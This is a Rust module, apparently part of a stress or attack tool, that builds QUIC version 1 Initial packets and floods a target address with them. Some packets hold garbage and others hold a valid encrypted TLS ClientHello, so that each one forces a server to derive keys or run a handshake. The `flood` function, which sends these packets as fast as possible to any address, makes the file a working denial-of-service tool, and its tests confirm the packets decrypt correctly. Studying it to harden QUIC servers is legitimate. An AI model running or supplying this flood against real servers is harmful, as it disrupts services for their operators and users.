//! Attacks with first packets of QUIC connections (RFC 9000, 17.2.2). No second packet follows.
//! Each packet makes the server derive keys. Some packets carry garbage. Others carry a whole TLS
//! handshake message; each of these costs a server without limits a handshake.

use std::io;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::crypto::ring::default_provider;
use rustls::pki_types::ServerName;
use rustls::quic::{ClientConnection, Suite, Version};
use rustls::version::TLS13;
use rustls::{CipherSuite, ClientConfig, RootCertStore, Side};

/// Length of a packet, bytes. Servers ignore shorter ones.
const PACKET_LEN: usize = 1200;
/// How many packets are sent between two checks of the time.
const PACKETS_PER_LOOK: u64 = 64;

/// Returns an Initial packet of QUIC version 1 with garbage. Its connection ids come from `seed`.
#[must_use]
pub fn initial(seed: u64) -> Vec<u8> {
    let mut packet = Vec::with_capacity(PACKET_LEN);
    // Long header, fixed bit, type Initial, packet number of one byte; version 1.
    packet.extend([0xC0, 0, 0, 0, 1]);
    for id in [seed, !seed] {
        packet.push(8);
        packet.extend(id.to_be_bytes());
    }
    // No token, then the length of the rest in two bytes.
    packet.push(0);
    let rest = PACKET_LEN - packet.len() - 2;
    packet.extend((0x4000 | rest as u16).to_be_bytes());
    let mut state = seed | 1;
    packet.resize_with(PACKET_LEN, || {
        // Fill the packet with bytes of Marsaglia's xorshift. Any bytes are good enough, except
        // zeros.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state as u8
    });
    packet
}

/// A `ClientHello`, from which packets are made. Every packet has another connection id, and is
/// encrypted with the keys that are derived from this id (RFC 9001, 5.2).
pub struct ClientHello {
    client_hello: Vec<u8>,
    suite: Suite,
}

impl ClientHello {
    /// Makes the `ClientHello` of a client that trusts no root certificate and offers HTTP/3.
    ///
    /// # Errors
    /// rustls produces no handshake message.
    pub fn new() -> Result<Self, rustls::Error> {
        let builder = ClientConfig::builder_with_provider(Arc::new(default_provider()));
        let config = builder.with_protocol_versions(&[&TLS13])?;
        let mut config =
            config.with_root_certificates(RootCertStore::empty()).with_no_client_auth();
        config.alpn_protocols = vec![b"h3".to_vec()];
        // The only transport parameter that a server requires: the source connection id, which is
        // the same in all packets (RFC 9000, 18.2).
        let params = [&[0x0f, SOURCE.len() as u8][..], &SOURCE].concat();
        let name = ServerName::try_from("localhost")
            .map_err(|error| rustls::Error::General(error.to_string()))?;
        let mut client = ClientConnection::new(Arc::new(config), Version::V1, name, params)?;
        let mut client_hello = Vec::new();
        client.write_hs(&mut client_hello);
        Ok(Self { client_hello, suite: suite() })
    }

    /// Returns the first packet of a connection whose id comes from `seed`.
    ///
    /// # Panics
    /// If the message does not fit into a packet, which cannot happen.
    #[must_use]
    pub fn packet(&self, seed: u64) -> Vec<u8> {
        let id = seed.to_be_bytes();
        let mut packet = vec![0xC0, 0, 0, 0, 1, id.len() as u8];
        packet.extend(id);
        packet.push(SOURCE.len() as u8);
        packet.extend(SOURCE);
        // No token.
        packet.push(0);
        let rest = PACKET_LEN - packet.len() - 2;
        packet.extend((0x4000 | rest as u16).to_be_bytes());
        let number_at = packet.len();
        packet.push(0);
        // A CRYPTO frame from offset 0, then padding.
        let mut payload = vec![0x06, 0];
        payload.extend((0x4000 | self.client_hello.len() as u16).to_be_bytes());
        payload.extend(&self.client_hello);
        assert!(
            payload.len() + TAG_LEN < rest,
            "a client_hello of {} bytes",
            self.client_hello.len()
        );
        payload.resize(rest - 1 - TAG_LEN, 0);
        let keys = self.suite.keys(&id, Side::Client, Version::V1).local;
        let sealed = "keys of the first packets encrypt";
        let tag = keys.packet.encrypt_in_place(0, &packet, &mut payload).expect(sealed);
        payload.extend(tag.as_ref());
        // The sample follows the longest possible packet number (RFC 9001, 5.4.2).
        let sample = &payload[3..3 + keys.header.sample_len()];
        let (head, number) = packet.split_at_mut(number_at);
        keys.header.encrypt_in_place(sample, &mut head[0], number).expect(sealed);
        packet.extend(payload);
        packet
    }
}

impl std::fmt::Debug for ClientHello {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Hello").field("client_hello", &self.client_hello).finish_non_exhaustive()
    }
}

/// Returns the cipher suite with which first packets are encrypted.
fn suite() -> Suite {
    let suites = default_provider().cipher_suites;
    let suite = suites.iter().find_map(|suite| match suite.suite() {
        CipherSuite::TLS13_AES_128_GCM_SHA256 => suite.tls13()?.quic_suite(),
        _ => None,
    });
    suite.expect("ring has the suite of first packets")
}

/// Source connection id of every packet.
const SOURCE: [u8; 8] = *b"one of m";
/// Length of an AEAD tag, bytes.
const TAG_LEN: usize = 16;

/// Sends packets with different seeds as fast as the socket accepts them, for `limit`. Returns how
/// many were sent.
///
/// # Errors
/// The system has no socket to send from.
pub fn flood(
    addr: SocketAddr,
    limit: Duration,
    packet: impl Fn(u64) -> Vec<u8>,
) -> io::Result<u64> {
    let any: std::net::IpAddr = match addr {
        SocketAddr::V4(_) => Ipv4Addr::UNSPECIFIED.into(),
        SocketAddr::V6(_) => Ipv6Addr::UNSPECIFIED.into(),
    };
    let socket = UdpSocket::bind((any, 0))?;
    let (start, mut sent) = (Instant::now(), 0_u64);
    while start.elapsed() < limit {
        for _ in 0..PACKETS_PER_LOOK {
            // Count only packets that the socket accepts.
            let seed = (sent + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15);
            sent += u64::from(socket.send_to(&packet(seed), addr).is_ok());
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_is_an_initial_of_the_least_length() {
        let packet = initial(7);
        assert_eq!(packet.len(), PACKET_LEN);
        assert_eq!(packet[..6], [0xC0, 0, 0, 0, 1, 8]);
        let rest = usize::from(u16::from_be_bytes([packet[24], packet[25]]) & 0x3FFF);
        assert_eq!(26 + rest, PACKET_LEN);
        assert_ne!(initial(8)[6..14], packet[6..14]);
    }

    #[test]
    fn a_server_finds_a_client_hello_in_the_packet() {
        let hello = ClientHello::new().unwrap();
        let mut packet = hello.packet(7);
        assert_eq!(packet.len(), PACKET_LEN);
        let keys = hello.suite.keys(&7_u64.to_be_bytes(), Side::Server, Version::V1).remote;
        let (head, rest) = packet.split_at_mut(26);
        let sample = rest[4..4 + keys.header.sample_len()].to_vec();
        keys.header.decrypt_in_place(&sample, &mut head[0], &mut rest[..1]).unwrap();
        assert_eq!((head[0], rest[0]), (0xC0, 0));
        let head = [&head[..], &rest[..1]].concat();
        let payload = keys.packet.decrypt_in_place(0, &head, &mut rest[1..]).unwrap();
        assert_eq!(payload[4..4 + hello.client_hello.len()], hello.client_hello);
        // The message is a `ClientHello` (RFC 8446, 4).
        assert_eq!(hello.client_hello[0], 1);
    }
}
